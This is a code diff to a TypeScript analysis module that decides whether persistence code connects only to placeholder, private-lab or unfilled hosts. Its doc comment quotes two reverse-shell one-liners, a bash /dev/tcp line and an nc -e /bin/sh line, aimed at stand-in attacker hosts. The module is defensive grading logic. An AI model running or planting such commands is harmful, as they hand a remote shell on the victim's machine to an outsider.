@@ -1,5 +1,6 @@
 import type { BehaviourOf, Value } from '../../analysis/facts.js';
-import { classifyHost } from '../../analysis/hosts.js';
+import { classifyHost, isPrivateNetworkHost } from '../../analysis/hosts.js';
+import { endpointVariable } from './unfilled-hosts.js';
 
 /** What a write puts in place, as the persistence rule grades it. */
 
@@ -38,17 +39,33 @@ const PAYLOAD_HOSTS =
  * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
  * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
  * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
- * anyone as written. A variable or an ordinary host is not a placeholder.
+ * anyone as written. A variable counts only when nothing in reach fills it (`unfilled`, from
+ * support/unfilled-hosts.ts); an ordinary host is not a placeholder.
  */
-export function placeholderPayload(v: Value | undefined): boolean {
-  if (!v) return false;
+export function placeholderPayload(v: Value | undefined, unfilled?: ReadonlySet<string>): boolean {
+  const hosts = payloadHosts(v);
+  return (
+    hosts.length > 0 &&
+    hosts.every(
+      (h) =>
+        classifyHost(h) === 'placeholder' ||
+        // A lab address (`10.10.10.10`) is graded like a placeholder, as reverse-shell grades it.
+        isPrivateNetworkHost(h) ||
+        unfilled?.has(endpointVariable({ url: h, cls: 'unknown' }) ?? '') === true,
+    )
+  );
+}
+
+/** The hosts written code connects to or downloads from (at most 16, the download's source included). */
+export function payloadHosts(v: Value | undefined): string[] {
+  if (!v) return [];
   const hosts: string[] = [];
   for (const m of v.text.matchAll(PAYLOAD_HOSTS)) {
     if (hosts.length >= 16) break;
     hosts.push(m[1] ?? m[2] ?? m[3] ?? '');
   }
   if (v.taints.includes('download')) hosts.push(v.from ?? '');
-  return hosts.length > 0 && hosts.every((h) => classifyHost(h) === 'placeholder');
+  return hosts;
 }
 
 /** A relative path, literal: inside the repository (no home, root, variable or drive). */
